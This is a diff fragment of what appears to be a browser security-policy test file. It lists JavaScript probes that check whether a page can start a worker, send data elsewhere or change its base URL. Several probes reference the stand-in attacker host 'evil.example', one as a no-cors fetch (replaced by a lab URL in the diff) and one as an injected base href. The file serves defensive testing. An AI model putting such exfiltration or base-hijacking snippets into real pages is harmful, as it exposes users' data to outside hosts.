@@ -85,7 +85,7 @@ ONLY_WITH_POLICY: dict[str, str] = {
         document.body.append(s); } catch { done(false); } })""",
     "start a worker": """() => { try { new Worker(URL.createObjectURL(new Blob(['1']))); return true; }
         catch { return false; } }""",
-    "send data elsewhere": """async () => { try { await fetch('https://evil.example/', {mode: 'no-cors'});
+    "send data elsewhere": """async (x) => { try { await fetch(x.lab + '/static/x', {mode: 'no-cors'});
         return true; }
         catch { return false; } }""",
     "change the base": """() => { const b = document.createElement('base'); b.href = 'https://evil.example/';
